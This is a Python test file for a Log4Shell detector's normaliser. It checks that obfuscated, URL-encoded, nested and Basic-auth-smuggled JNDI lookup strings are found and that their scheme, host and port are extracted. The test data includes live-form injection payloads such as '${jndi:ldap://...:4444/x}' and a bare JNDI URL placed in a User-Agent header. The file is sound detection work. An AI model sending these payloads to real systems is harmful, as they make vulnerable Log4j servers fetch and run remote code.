"""The normaliser: obfuscated lookup strings in, Log4j's resolved lookup and its target out."""

from __future__ import annotations

import base64

import pytest

from kubectl_netmon.detect.log4shell.normalise import basic_credentials, find_lookups
from tests.detect.cases import OBFUSCATED, SCHEMES

BENIGN = [
    "${HOME}/bin:${PATH}",
    "Hello ${user.name}, your order ${order.id} shipped",
    '{"price": "$", "items": {}, "template": "${x}"}',
    "${jndi:java:comp/env/jdbc/db}",  # a local JNDI name, as in Log4j configs
    "the jndi package documentation",
    "${jndi:ldap://unclosed",
    "%24%7BHOME%7D",
    "${base64:aGVsbG8=}",
]


@pytest.mark.parametrize(("payload", "normalised", "scheme", "host", "port"), OBFUSCATED)
def test_obfuscated_lookup_resolves_to_its_jndi_target(payload, normalised, scheme, host, port):
    [lookup] = find_lookups(payload.encode("utf-8"))
    assert (lookup.normalised, lookup.scheme, lookup.host, lookup.port) == (
        normalised, scheme, host, port)


@pytest.mark.parametrize("payload", [p for p, *_ in OBFUSCATED])
def test_raw_is_the_matched_text_as_sent(payload):
    data = b"prefix " + payload.encode("utf-8") + b" suffix"
    [lookup] = find_lookups(data)
    assert lookup.raw == payload.encode("utf-8").decode("latin-1")


@pytest.mark.parametrize(("scheme", "default_port"), SCHEMES)
def test_every_jndi_scheme_is_found_with_its_default_port(scheme, default_port):
    [lookup] = find_lookups(f"${{jndi:{scheme}://cb.example/x}}".encode())
    assert (lookup.scheme, lookup.host, lookup.port) == (scheme, "cb.example", default_port)


@pytest.mark.parametrize(("scheme", "default_port"), SCHEMES)
def test_explicit_port_wins_over_the_default(scheme, default_port):
    [lookup] = find_lookups(f"${{jndi:{scheme}://cb.example:4444/x}}".encode())
    assert lookup.port == 4444


@pytest.mark.parametrize("payload", BENIGN)
def test_benign_look_alikes_are_not_lookups(payload):
    assert find_lookups(payload.encode(), allow_bare=True) == []


def test_bare_jndi_url_counts_only_when_allowed():
    data = b"User-Agent: jndi:ldap://172.16.238.11:1389/a"
    assert find_lookups(data) == []
    [lookup] = find_lookups(data, allow_bare=True)
    assert (lookup.host, lookup.port) == ("172.16.238.11", 1389)


def test_same_lookup_twice_is_reported_once():
    assert len(find_lookups(b"${jndi:ldap://h/a} and %24%7Bjndi:ldap://h/a%7D")) == 1


def test_two_different_lookups_are_both_reported():
    found = find_lookups(b"${jndi:ldap://a.example/x} ${jndi:rmi://b.example/y}")
    assert [lk.host for lk in found] == ["a.example", "b.example"]


def test_basic_credentials_are_decoded():
    value = "Basic " + base64.b64encode(b"admin:${jndi:ldap://h/a}").decode()
    assert basic_credentials(value) == b"admin:${jndi:ldap://h/a}"


def test_non_basic_authorization_has_no_credentials():
    assert basic_credentials("Bearer abc") == b""


def test_lookup_after_thousands_of_unclosed_openers_is_found():
    [lookup] = find_lookups(b"${" * 20000 + b"${jndi:ldap://h/a}")
    assert lookup.host == "h"


def test_deeply_nested_case_lookups_are_resolved():
    [lookup] = find_lookups(b"${lower:" * 20 + b"${jndi:ldap://h/a}" + b"}" * 20)
    assert lookup.normalised == "${jndi:ldap://h/a}"

